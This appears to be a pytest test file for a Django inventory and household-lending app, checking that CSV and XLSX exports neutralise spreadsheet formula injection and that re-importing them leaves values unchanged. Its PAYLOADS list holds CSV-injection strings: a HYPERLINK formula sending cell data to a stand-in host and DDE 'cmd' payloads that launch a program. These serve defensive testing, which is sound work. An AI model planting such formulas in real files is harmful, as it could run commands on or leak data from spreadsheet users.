"""CSV cells a spreadsheet would run as formulas ("=HYPERLINK(…)", "+cmd|…", "@SUM(…)")
are written with a quote ahead, the OWASP way, and read back without it: a round trip
changes nothing, and a number alone ("-3") stays a number."""

import csv
import io
import re

import openpyxl
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from exchange import engine
from exchange.models import ImportJob
from inventory.models import Device, Donor
from inventory.resources import DeviceResource, DonorResource
from lending.households.resources import HouseholdResource
from spreadsheets.exporting import _csv, export_dataset
from spreadsheets.reading import read_sheet
from spreadsheets.values import FORMULA_STARTS, neutralised, unneutralised
from tests.factories import DeviceFactory, DonorFactory
from tests.lending_factories import HouseholdFactory, StructureFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''+1",
]
# Text a formula could start with, quotes and separators included.
formula_like = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from([*FORMULA_STARTS, "'", "''", "'-"]),
    st.text(
        alphabet=st.characters(blacklist_categories=["Cs", "Cc"])
        | st.sampled_from(["=", "+", "-", "@", "'", ";", '"', "\t", "\r", "\n", "1", ","])
    ),
)


def is_safe(cell):
    """A cell a spreadsheet does not run: no formula start, or a number alone."""
    return cell[:1] not in FORMULA_STARTS or re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell)


@given(st.text() | formula_like)
def test_the_quote_added_on_export_is_removed_on_import(value):
    assert unneutralised(neutralised(value)) == value
    assert is_safe(neutralised(value))


@given(formula_like)
def test_a_csv_written_then_read_gives_back_every_value(value):
    content = _csv(["Notes", "Quantity"], [[value, "-3"]], number_columns={1})

    rows = list(read_sheet("export.csv", content).rows)

    assert rows[0][1] == [value, "-3"]


def test_numbers_alone_are_left_as_they_are_and_phones_are_quoted():
    assert neutralised("-3") == "-3"
    assert neutralised("+2,5") == "+2,5"
    assert neutralised("+33 6 12 34 56 78") == "'+33 6 12 34 56 78"
    assert neutralised("-2+3") == "'-2+3"
    content = _csv(["Quantity"], [["-3"]], number_columns={0})
    assert content.decode("utf-8-sig").splitlines()[1] == "-3"


# The exports of the list pages -----------------------------------------------------------


def _cells(content):
    text = content.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def _analyse(resource, content, user):
    job = ImportJob.objects.create(
        resource=resource, filename="export.csv", content=content, created_by=user, options={}
    )
    return engine.analyse(job)


@pytest.mark.django_db
@pytest.mark.usefixtures("english")
def test_device_donor_and_household_exports_neutralise_every_formula(superuser, social_worker):
    for payload in PAYLOADS:
        DeviceFactory(notes=payload, model=payload[:40])
        DonorFactory(name=f"Donateur {payload[:20]}", contact_name=payload[:100], notes=payload)
    structure = StructureFactory(members=[social_worker])
    for payload in PAYLOADS:
        HouseholdFactory(
            structure=structure, social_worker=social_worker, notes=payload, last_name=payload[:40]
        )
    exports = [
        (DeviceResource, superuser),
        (DonorResource, superuser),
        (HouseholdResource, social_worker),
    ]
    for resource, user in exports:
        content = export_dataset(resource, resource.export_queryset(user), "csv", user)
        cells = _cells(content)
        assert "'" + PAYLOADS[0] in cells, resource
        unsafe = [cell for cell in cells if not is_safe(cell)]
        assert unsafe == [], resource


@pytest.mark.django_db
@pytest.mark.usefixtures("english")
@pytest.mark.parametrize(
    ("resource", "model", "make"),
    [
        (DeviceResource, Device, lambda payload: DeviceFactory(notes=payload)),
        (
            DonorResource,
            Donor,
            lambda payload: DonorFactory(notes=payload, phone="+33 6 12 34 56 78"),
        ),
    ],
)
def test_formulas_and_phones_import_back_unchanged(superuser, resource, model, make):
    for payload in PAYLOADS:
        make(payload)
    content = export_dataset(resource, resource.export_queryset(superuser), "csv", superuser)

    job = _analyse(resource._meta.model._meta.model_name + "s", content, superuser)

    assert job.problems == []
    count = model.objects.count()
    assert job.counts == {"new": 0, "update": 0, "unchanged": count, "error": 0}


@pytest.mark.django_db
@pytest.mark.usefixtures("english")
def test_a_household_export_with_formulas_imports_back_unchanged(social_worker):
    structure = StructureFactory(members=[social_worker])
    for payload in PAYLOADS:
        HouseholdFactory(structure=structure, social_worker=social_worker, notes=payload)
    queryset = HouseholdResource.export_queryset(social_worker)
    content = export_dataset(HouseholdResource, queryset, "csv", social_worker)

    job = _analyse("households", content, social_worker)

    assert job.counts == {"new": 0, "update": 0, "unchanged": len(PAYLOADS), "error": 0}


@pytest.mark.django_db
@pytest.mark.usefixtures("english")
@hypothesis_settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=formula_like.filter(lambda v: v.strip() and "\x00" not in v))
def test_any_formula_in_a_device_note_imports_back_unchanged(superuser, value):
    Device.objects.all().delete()
    DeviceFactory(notes=value)
    content = export_dataset(DeviceResource, DeviceResource.export_queryset(superuser), "csv")

    job = _analyse("devices", content, superuser)

    assert job.counts == {"new": 0, "update": 0, "unchanged": 1, "error": 0}, job.problems


@pytest.mark.django_db
def test_the_xlsx_keeps_formulas_as_text_without_a_quote(superuser):
    for payload in PAYLOADS:
        DeviceFactory(notes=payload)
    content = export_dataset(DeviceResource, DeviceResource.export_queryset(superuser), "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    values = {cell.value for cell in cells}
    assert PAYLOADS[0] in values and PAYLOADS[1] in values
    assert not any(str(value).startswith("'=HYPERLINK") for value in values)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
